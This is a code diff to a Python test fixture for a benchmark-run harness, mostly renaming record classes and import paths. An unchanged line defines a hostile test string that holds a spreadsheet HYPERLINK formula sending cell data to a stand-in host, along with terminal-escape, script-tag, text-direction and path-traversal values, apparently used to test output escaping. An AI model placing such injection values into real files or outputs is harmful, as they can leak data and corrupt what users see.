@@ -9,12 +9,12 @@ from pathlib import Path
 from typing import Any
 
 from adapters.conversation import Reply, Usage
-from harness.runs import CallRecord, MessageRecord, RunDirectory, UnitRecord
+from harness.runs import CallRecord, MessageRecord, RunDirectory, Unit
 from parsers import Declaration, Group, Level, Measure, Prediction, Status
 from parsers.actions import Action
 from tests.harness.benchmarks._autowebbench import write as write_prompts
 from tests.harness.commands.tool import call
-from tests.reports.episodes.worlds import forms
+from tests.reports.kinds.episode.worlds import forms
 from tests.reports.runs import setup
 
 HOSTILE = '=HYPERLINK("http://x/?"&A1)\n\x1b[31m</script>\u202e../../etc'
@@ -44,7 +44,7 @@ def made_up(path: Path, *, name: str = "", complete: bool = True, text: str = HO
             model={"name": name or path.name},
             dataset={"benchmark": "marks", "rows": 12},
         ),
-        declared=MADE_UP,
+        declaration=MADE_UP,
     )
     hits = {"left": (1, 1, 0, 0, 1, 1), "right": (1, 1, 1, 0, 1, 1)}
     with RunDirectory.start(path, made) as run:
@@ -58,8 +58,8 @@ def made_up(path: Path, *, name: str = "", complete: bool = True, text: str = HO
     return path
 
 
-def _mark(split: str, number: int, hit: float, text: str) -> UnitRecord[Any]:
-    return UnitRecord(
+def _mark(split: str, number: int, hit: float, text: str) -> Unit[Any]:
+    return Unit(
         kind=MADE_UP.kind,
         unit_id=f"{split}-{number}",
         benchmark="marks",
@@ -84,7 +84,7 @@ def _mark(split: str, number: int, hit: float, text: str) -> UnitRecord[Any]:
     )
 
 
-def _call(unit: UnitRecord[Any], text: str) -> CallRecord:
+def _call(unit: Unit[Any], text: str) -> CallRecord:
     return CallRecord(
         id=f"{unit.unit_id}/0/only",
         unit_id=unit.unit_id,
